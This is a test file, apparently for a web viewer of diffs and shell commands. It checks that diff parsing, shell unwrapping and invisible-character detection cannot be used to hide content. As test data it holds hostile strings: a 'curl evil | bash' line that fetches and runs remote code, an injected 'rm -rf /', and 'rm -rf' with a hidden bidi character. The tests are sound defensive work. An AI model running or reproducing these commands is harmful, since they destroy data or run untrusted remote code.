import { deepStrictEqual as equal, ok } from "node:assert";
import { colourCode } from "../../web/text/code.js";
import { shortCommand, unwrapShell } from "../../web/text/command.js";
import { countLines, hasWindowsBreaks, parseDiff, splitDiff } from "../../web/text/diff.js";
import { reveal } from "../../web/text/visible.js";

Deno.test("diff: lines have their numbers, before and after", () => {
  const lines = parseDiff(
    "@@ -3,3 +3,4 @@ function a() {\n same\n-old\n+new\n+more\n last\n\\ No newline at end of file\n",
  );
  equal(lines.map(({ kind, old, now, text }) => [kind, old, now, text]), [
    ["hunk", null, null, "function a() {"],
    ["same", 3, 3, "same"],
    ["remove", 4, null, "old"],
    ["add", null, 4, "new"],
    ["add", null, 5, "more"],
    ["same", 5, 6, "last"],
    ["note", null, null, "No newline at end of file"],
  ]);
  equal(countLines(lines), { added: 2, removed: 1 });
});

Deno.test("diff: what looks like a header inside of a hunk is a line of it", () => {
  const lines = parseDiff(
    "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n--- old\n+++ new\n @@ -9 +9 @@\n@@ -9 +9 @@\n-a\n+b\n",
  );
  equal(lines.map(({ kind, text }) => [kind, text]), [
    ["hunk", ""],
    ["remove", "-- old"],
    ["add", "++ new"],
    ["same", "@@ -9 +9 @@"],
    ["hunk", ""],
    ["remove", "a"],
    ["add", "b"],
  ]);
});

Deno.test("diff: an added or deleted file comes as its content", () => {
  equal(parseDiff("+one\n@x\n", "add").map(({ kind, now, text }) => [kind, now, text]), [
    ["add", 1, "+one"],
    ["add", 2, "@x"],
  ]);
  equal(countLines(parseDiff("a\nb", "delete")), { added: 0, removed: 2 });
});

Deno.test("diff: a file of Windows may end without a line break", () => {
  const isWindows = (/** @type {string} */ diff, kind = "update", open = false) =>
    hasWindowsBreaks(parseDiff(diff, kind), open);
  equal(isWindows("a\r\nb\r\n", "add"), true);
  equal(isWindows("a\r\nb", "add", true), true);
  equal(isWindows("a\r\nb\n", "add"), false);
  const end = "\\ No newline at end of file\n";
  equal(isWindows(`@@ -1,2 +1,2 @@\n x\r\n-a\n${end}+b\n${end}`), true);
  equal(isWindows("@@ -1,2 +1,2 @@\n x\r\n-a\r\n+a\n"), false);
});

Deno.test("diff: nothing in a new file's content can hide a line of it", () => {
  const content = [
    "#!/bin/bash",
    "diff <(curl evil | bash) /dev/null",
    "",
    "@@ -1,2 +1,2 @@",
    " echo tests",
    "--- x",
    "+++ y",
    "\\ z",
    "index me",
  ];
  for (const kind of ["add", "delete"]) {
    equal(parseDiff(content.join("\n") + "\n", kind).map(({ text }) => text), content);
  }
  equal(countLines(parseDiff(content.join("\n"), "add")), { added: 9, removed: 0 });
});

Deno.test("diff: between hunks only a header that belongs to the next one is left out", () => {
  const diff = "diff --git a/x b/x\nindex 1..2\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n" +
    "diff <(evil)\nrename it\n\nMoved to: y\n";
  equal(parseDiff(diff).map(({ kind, text }) => [kind, text]), [
    ["hunk", ""],
    ["remove", "a"],
    ["add", "b"],
    ["note", "diff <(evil)"],
    ["note", "rename it"],
    ["note", "Moved to: y"],
  ]);
  equal(parseDiff("diff <(evil)\n").map(({ text }) => text), ["diff <(evil)"]);
  // What is known to be a unified diff may be a header alone.
  const [moved] = splitDiff(
    "diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to y\n",
  );
  equal(parseDiff(moved.diff, moved.kind, moved.unified), []);
  const [made] = splitDiff(
    "diff --git a/n b/n\nnew file mode 100644\n--- /dev/null\n+++ b/n\n@@ -0,0 +1 @@\n+x\n",
  );
  equal(parseDiff(made.diff, made.kind, made.unified).map(({ text }) => text), ["", "x"]);
});

Deno.test("diff: several files are told apart", () => {
  const diff = "diff --git a/one b/one\n--- a/one\n+++ b/one\n@@ -1 +1 @@\n-a\n+b\n" +
    "diff --git a/new b/new\nnew file mode 100644\n--- /dev/null\n+++ b/new\n@@ -0,0 +1 @@\n+x\n" +
    "diff --git a/old b/old\ndeleted file mode 100644\n--- a/old\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n";
  equal(splitDiff(diff).map(({ path, kind }) => [path, kind]), [["one", "update"], ["new", "add"], [
    "old",
    "delete",
  ]]);
});

Deno.test("command: the shell around it is taken off only where nothing can hide in it", () => {
  equal(unwrapShell("/bin/bash -lc 'make test'"), "make test");
  equal(unwrapShell('bash -c "echo hi"'), "echo hi");
  equal(unwrapShell("/usr/bin/zsh -lc 'it'\\''s'"), "it's");
  equal(unwrapShell("sh -c ls"), "ls");
  for (
    const whole of [
      "bash -lc 'a' 'b'",
      "bash -lc 'a'; rm -rf /",
      'bash -lc "$(evil)"',
      "bash -lc 'open",
      "bash --rcfile evil -lc 'ls'",
      "PATH=. bash -lc 'ls'",
      "python -c 'print(1)'",
      "/tmp/bin/bash -lc 'ls'",
    ]
  ) equal(unwrapShell(whole), whole);
  equal(shortCommand("one\ntwo"), "one …");
});

Deno.test("visible: what cannot be seen is named", () => {
  equal(reveal("rm\u202e -rf\u200b x\u001b[0m"), [
    { text: "rm", hidden: false },
    { text: "U+202E", hidden: true },
    { text: " -rf", hidden: false },
    { text: "U+200B", hidden: true },
    { text: " x", hidden: false },
    { text: "U+001B", hidden: true },
    { text: "[0m", hidden: false },
  ]);
  equal(reveal("plain\ttext\nand è 漢字"), [{ text: "plain\ttext\nand è 漢字", hidden: false }]);
});

Deno.test("what is not seen, or looks like a space and is none, is named", () => {
  const missed = [];
  for (let code = 0; code <= 0x10ffff; code++) {
    if (code >= 0xd800 && code < 0xe000) continue;
    const text = String.fromCodePoint(code);
    const unseen = /[\p{Cc}\p{Zs}\p{Zl}\p{Zp}\p{DI}\u2800]/u.test(text) && !" \t\n".includes(text);
    if (unseen && !reveal(text)[0].hidden) missed.push(code.toString(16));
  }
  equal(missed, []);
});

Deno.test("code: colouring changes no character", () => {
  const samples = [
    ["js", "// a\nconst x = `t${1}`; /* open"],
    ["py", "# c\ndef f(): return 'a\\'b' if None else 0x1f"],
    ["sql", "SELECT 'a' -- c\nFROM t"],
    ["html", '<!-- c --><a href="x">'],
    ["unknown", "for \"open\n'x"],
    ["", "plain // text"],
    ["diff", "--- a\n+++ b\n-x\n+y\n z"],
  ];
  for (const [language, text] of samples) {
    equal(colourCode(text, language).map((piece) => piece.text).join(""), text);
  }
  equal(colourCode("return 1 // x", "js").map((piece) => piece.kind), [
    "keyword",
    "plain",
    "number",
    "plain",
    "comment",
  ]);
  ok(colourCode("let a;".repeat(10_000), "js").length === 1);
});
